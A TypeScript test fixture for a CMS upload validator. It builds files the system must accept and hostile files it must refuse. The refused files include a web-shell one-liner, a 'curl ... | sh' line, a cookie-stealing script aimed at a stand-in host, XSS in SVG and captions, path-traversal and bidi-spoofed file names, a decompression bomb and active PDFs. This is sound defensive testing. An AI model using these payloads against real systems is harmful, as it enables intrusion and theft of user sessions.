/**
 * The upload corpus: files every upload collection must refuse, each with the reason it must give,
 * and files it must accept, with what it must record. Made here from scratch (sharp, pdf-lib,
 * ffmpeg, hand-built bytes); `pnpm --filter media corpus <dir>` writes them out for a look.
 */
import sharp from 'sharp'

import { sizeLimits, pixelLimit } from '../src/fileTypes'
import type { RefusalKind } from '../src/validation'
import { elfExecutable, macExecutable, pngBomb, windowsExecutable, withDamagedPixels, withPngText } from './binaries'
import { officeOpenXml, openDocumentText } from './office'
import { encryptedPdf, pdfBytes, pdfWithAttachment, pdfWithJavaScript, pdfWithLaunch } from './pdf'
import { tinyVideo } from './video'
import { makeZip } from './zip'

export type UploadCollection = 'media' | 'documents' | 'video-files'

type CorpusFile = {
  /** What the file is, for test names. */
  what: string
  collection: UploadCollection
  /** The name it is uploaded with. */
  name: string
  /** The MIME type the client claims. */
  type: string
  bytes: Buffer
}

export type BadFile = CorpusFile & {
  refusal: RefusalKind
  /** 413 for size, 400 otherwise. */
  status: 400 | 413
  /** The values the refusal's message is filled with (besides the collection's accepted types). */
  values?: Record<string, string>
}

export type GoodFile = CorpusFile & {
  /** What the CMS must record from the file's content. */
  expected: { mimeType: string; width?: number; height?: number; pageCount?: number; pageSize?: string; durationSeconds?: number }
}

const text = (value: string) => Buffer.from(value, 'utf8')

const image = (format: 'jpeg' | 'png' | 'webp' | 'avif' | 'gif', width = 640, height = 480) =>
  sharp({ create: { width, height, channels: 3, background: '#2a7ab0' } })[format]().toBuffer()

/** A photo as phones write it: EXIF with the camera and the place it was taken (Taipei). */
const photoWithLocation = () =>
  sharp({ create: { width: 1200, height: 800, channels: 3, background: '#b0552a' } })
    .jpeg({ quality: 80 })
    .withExif({
      IFD0: { Make: 'Corpus', Model: 'Phone', Copyright: 'career guidance test' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '25/1 2/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '121/1 33/1 0/1' },
    })
    .toBuffer()

const svg = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>'
const html = '<!doctype html><html><body><h1>Not an image</h1><script>fetch("/api/users/me")</script></body></html>'
const vtt = (cue: string) => text(`WEBVTT\n\n00:00:00.000 --> 00:00:02.000\n${cue}\n`)

/** Half the file: what an interrupted upload or copy leaves. */
const cut = (bytes: Buffer) => bytes.subarray(0, Math.floor(bytes.length / 2))

/** A file name carrying `character` (a control or bidi character) in the middle. */
const nameWith = (character: string, name: string) => name.replace('-', character)

export async function goodFiles(): Promise<GoodFile[]> {
  const docx = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
  const xlsx = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
  const pptx = 'application/vnd.openxmlformats-officedocument.presentationml.presentation'
  const odt = 'application/vnd.oasis.opendocument.text'
  return [
    { what: 'JPEG photo with EXIF and GPS', collection: 'media', name: '校園徵才博覽會.jpg', type: 'image/jpeg', bytes: await photoWithLocation(), expected: { mimeType: 'image/jpeg', width: 1200, height: 800 } },
    { what: 'PNG', collection: 'media', name: 'chart.png', type: 'image/png', bytes: await image('png'), expected: { mimeType: 'image/png', width: 640, height: 480 } },
    { what: 'WebP', collection: 'media', name: 'banner.webp', type: 'image/webp', bytes: await image('webp', 800, 400), expected: { mimeType: 'image/webp', width: 800, height: 400 } },
    { what: 'AVIF', collection: 'media', name: 'poster.avif', type: 'image/avif', bytes: await image('avif', 480, 640), expected: { mimeType: 'image/avif', width: 480, height: 640 } },
    { what: 'GIF', collection: 'media', name: 'icon.gif', type: 'image/gif', bytes: await image('gif', 120, 90), expected: { mimeType: 'image/gif', width: 120, height: 90 } },
    { what: 'JPEG sent as application/octet-stream', collection: 'media', name: 'camera.JPEG', type: 'application/octet-stream', bytes: await image('jpeg'), expected: { mimeType: 'image/jpeg', width: 640, height: 480 } },
    { what: 'PDF', collection: 'documents', name: '職涯輔導手冊.pdf', type: 'application/pdf', bytes: await pdfBytes(), expected: { mimeType: 'application/pdf', pageCount: 2, pageSize: 'A4 · 210 × 297 mm' } },
    { what: 'DOCX', collection: 'documents', name: 'handbook.docx', type: docx, bytes: officeOpenXml('docx'), expected: { mimeType: docx } },
    { what: 'XLSX', collection: 'documents', name: 'statistics.xlsx', type: xlsx, bytes: officeOpenXml('xlsx'), expected: { mimeType: xlsx } },
    { what: 'PPTX', collection: 'documents', name: 'slides.pptx', type: pptx, bytes: officeOpenXml('pptx'), expected: { mimeType: pptx } },
    { what: 'ODT', collection: 'documents', name: 'report.odt', type: odt, bytes: openDocumentText(), expected: { mimeType: odt } },
    { what: 'MP4', collection: 'video-files', name: 'clip.mp4', type: 'video/mp4', bytes: tinyVideo('mp4'), expected: { mimeType: 'video/mp4', width: 64, height: 48, durationSeconds: 1 } },
    { what: 'WebM', collection: 'video-files', name: 'clip.webm', type: 'video/webm', bytes: tinyVideo('webm'), expected: { mimeType: 'video/webm', width: 64, height: 48, durationSeconds: 1 } },
    { what: 'WebVTT captions with a Chinese name and cue tags', collection: 'video-files', name: '職涯講座字幕.vtt', type: 'text/vtt', bytes: vtt('<v 講者>歡迎<b>收看</b><c.yellow>職涯</c>講座 <00:00:01.000><i>Welcome</i> <lang en>guidance</lang> <ruby>職<rt>zhí</rt></ruby>'), expected: { mimeType: 'text/vtt' } },
  ]
}

export async function badFiles(): Promise<BadFile[]> {
  const jpeg = await image('jpeg')
  const png = await image('png')
  const pdf = await pdfBytes()
  const docx = officeOpenXml('docx')
  const zip = makeZip([{ name: 'readme.txt', data: 'an ordinary archive' }])
  const docxType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
  const megabytes = (bytes: number) => String(Math.round(bytes / (1024 * 1024)))
  const bad = (what: string, collection: UploadCollection, name: string, type: string, bytes: Buffer, refusal: RefusalKind, values?: Record<string, string>): BadFile => ({
    what, collection, name, type, bytes, refusal, status: refusal === 'fileTooLarge' ? 413 : 400, ...(values ? { values } : {}),
  })
  return [
    // Content that is not an accepted type, whatever it is called.
    bad('SVG with a script named .png', 'media', 'logo.png', 'image/png', text(svg), 'fileTypeNotAllowed'),
    bad('SVG named .svg', 'media', 'logo.svg', 'image/svg+xml', text(svg), 'fileTypeNotAllowed'),
    bad('HTML named .jpg', 'media', 'photo.jpg', 'image/jpeg', text(html), 'fileTypeNotAllowed'),
    bad('XML named .png', 'media', 'data.png', 'image/png', text('<?xml version="1.0"?><catalog><item>x</item></catalog>'), 'fileTypeNotAllowed'),
    bad('shell script named .jpg', 'media', 'run.jpg', 'image/jpeg', text('#!/bin/sh\ncurl http://example.invalid | sh\n'), 'fileTypeNotAllowed'),
    bad('PHP named .gif', 'media', 'shell.gif', 'image/gif', text('<?php system($_GET["c"]); ?>\n'), 'fileTypeNotAllowed'),
    bad('JavaScript named .webp', 'media', 'app.webp', 'image/webp', text('document.location="https://example.invalid/?c="+document.cookie;\n'), 'fileTypeNotAllowed'),
    bad('Linux executable named .png', 'media', 'tool.png', 'image/png', elfExecutable(), 'fileTypeNotAllowed'),
    bad('Windows executable named .docx', 'documents', 'setup.docx', docxType, windowsExecutable(), 'fileTypeNotAllowed'),
    bad('macOS executable named .jpg', 'media', 'app.jpg', 'image/jpeg', macExecutable(), 'fileTypeNotAllowed'),
    bad('ZIP archive named .zip', 'documents', 'files.zip', 'application/zip', zip, 'fileTypeNotAllowed'),
    bad('ZIP archive named .png', 'media', 'archive.png', 'image/png', zip, 'fileTypeNotAllowed'),
    bad('HTML named .pdf', 'documents', 'page.pdf', 'application/pdf', text(html), 'fileTypeNotAllowed'),
    bad('HTML named .vtt', 'video-files', 'captions.vtt', 'text/vtt', text(html), 'fileTypeNotAllowed'),
    bad('SVG named .mp4', 'video-files', 'clip.mp4', 'video/mp4', text(svg), 'fileTypeNotAllowed'),
    bad('an image in the documents', 'documents', 'photo.jpg', 'image/jpeg', jpeg, 'fileTypeNotAllowed'),
    // Content that does not match the name.
    bad('PNG named .jpg', 'media', 'picture.jpg', 'image/jpeg', png, 'fileExtensionMismatch', { type: 'PNG', extensions: '.png' }),
    bad('JPEG without an extension', 'media', 'picture', 'image/jpeg', jpeg, 'fileExtensionMismatch', { type: 'JPEG', extensions: '.jpg .jpeg' }),
    bad('JPEG with an unknown extension', 'media', 'picture.xyz', 'image/jpeg', jpeg, 'fileExtensionMismatch', { type: 'JPEG', extensions: '.jpg .jpeg' }),
    bad('PDF named .docx', 'documents', 'report.docx', docxType, pdf, 'fileExtensionMismatch', { type: 'PDF', extensions: '.pdf' }),
    bad('DOCX named .pdf', 'documents', 'report.pdf', 'application/pdf', docx, 'fileExtensionMismatch', { type: 'Word (.docx)', extensions: '.docx' }),
    bad('MP4 named .webm', 'video-files', 'clip.webm', 'video/webm', tinyVideo('mp4'), 'fileExtensionMismatch', { type: 'MP4', extensions: '.mp4 .m4v' }),
    // Polyglots.
    bad('JPEG with HTML appended', 'media', 'photo.jpg', 'image/jpeg', Buffer.concat([jpeg, text(html)]), 'filePolyglot'),
    bad('PNG with a script in its text metadata', 'media', 'chart.png', 'image/png', withPngText(png, 'Comment', '<script>alert(1)</script>'), 'filePolyglot'),
    bad('PNG with a ZIP appended', 'media', 'chart.png', 'image/png', Buffer.concat([png, zip]), 'filePolyglot'),
    bad('PDF with HTML appended', 'documents', 'handbook.pdf', 'application/pdf', Buffer.concat([pdf, text(html)]), 'filePolyglot'),
    bad('PDF with a ZIP appended', 'documents', 'handbook.pdf', 'application/pdf', Buffer.concat([pdf, zip]), 'filePolyglot'),
    bad('DOCX with a VBA project', 'documents', 'letter.docx', docxType, officeOpenXml('docx', { withMacros: true }), 'officeMacros'),
    bad('macro-enabled document (.docm) named .docx', 'documents', 'letter.docx', docxType, officeOpenXml('docx', { macroEnabledType: true }), 'officeMacros'),
    bad('ODT with a Basic macro', 'documents', 'report.odt', 'application/vnd.oasis.opendocument.text', openDocumentText({ withMacros: true }), 'officeMacros'),
    bad('DOCX without [Content_Types].xml', 'documents', 'broken.docx', docxType, officeOpenXml('docx', { withoutManifest: true }), 'officeMalformed'),
    bad('ODT without its mimetype entry', 'documents', 'broken.odt', 'application/vnd.oasis.opendocument.text', openDocumentText({ withoutManifest: true }), 'officeMalformed'),
    bad('captions with a script', 'video-files', 'captions.vtt', 'text/vtt', vtt('Hello <script>alert(1)</script>'), 'captionMarkup', { tag: '<script>' }),
    bad('captions with an image', 'video-files', 'captions.vtt', 'text/vtt', vtt('<img src=x onerror=alert(1)>'), 'captionMarkup', { tag: '<img src=x onerror=alert(1)>' }),
    // Images too large to decode, or damaged.
    bad('decompression bomb: 20000×20000 PNG of a few kilobytes', 'media', 'bomb.png', 'image/png', pngBomb(20_000), 'imageTooManyPixels', { megapixels: String(pixelLimit / 1_000_000) }),
    bad('truncated JPEG', 'media', 'cut.jpg', 'image/jpeg', cut(await photoWithLocation()), 'imageCorrupt'),
    bad('truncated PNG', 'media', 'cut.png', 'image/png', cut(png), 'imageCorrupt'),
    bad('PNG with damaged pixel data', 'media', 'noise.png', 'image/png', withDamagedPixels(png), 'imageCorrupt'),
    // PDFs that are damaged, locked or active.
    bad('truncated PDF (no %%EOF)', 'documents', 'cut.pdf', 'application/pdf', cut(pdf), 'pdfCorrupt'),
    bad('PDF header and garbage', 'documents', 'garbage.pdf', 'application/pdf', Buffer.concat([text('%PDF-1.7\n'), Buffer.alloc(2048, 0x41), text('\n%%EOF\n')]), 'pdfCorrupt'),
    bad('encrypted PDF', 'documents', 'locked.pdf', 'application/pdf', await encryptedPdf(), 'pdfEncrypted'),
    bad('PDF that runs JavaScript', 'documents', 'script.pdf', 'application/pdf', await pdfWithJavaScript(), 'pdfActiveContent'),
    bad('PDF with a launch action', 'documents', 'launch.pdf', 'application/pdf', await pdfWithLaunch(), 'pdfActiveContent'),
    bad('PDF with an embedded file', 'documents', 'attached.pdf', 'application/pdf', await pdfWithAttachment(), 'pdfActiveContent'),
    // Size: one byte over the image limit.
    bad('image of 20 MB and one byte', 'media', 'huge.jpg', 'image/jpeg', Buffer.concat([jpeg, Buffer.alloc(sizeLimits.image + 1 - jpeg.length)]), 'fileTooLarge', { megabytes: megabytes(sizeLimits.image) }),
    // File names.
    bad('name with a path', 'media', '../../etc/photo.jpg', 'image/jpeg', jpeg, 'fileNameNotAllowed'),
    bad('name with a backslash', 'media', 'C:\\Users\\photo.jpg', 'image/jpeg', jpeg, 'fileNameNotAllowed'),
    bad('name with ..', 'documents', 'report..pdf', 'application/pdf', pdf, 'fileNameNotAllowed'),
    bad('name with a control character', 'media', nameWith('\u0007', 'photo-1.jpg'), 'image/jpeg', jpeg, 'fileNameNotAllowed'),
    bad('name with a DEL character', 'media', nameWith('\u007f', 'photo-2.jpg'), 'image/jpeg', jpeg, 'fileNameNotAllowed'),
    bad('name with a right-to-left override', 'documents', 'invoice\u202Efdp.docx', docxType, docx, 'fileNameNotAllowed'),
  ]
}
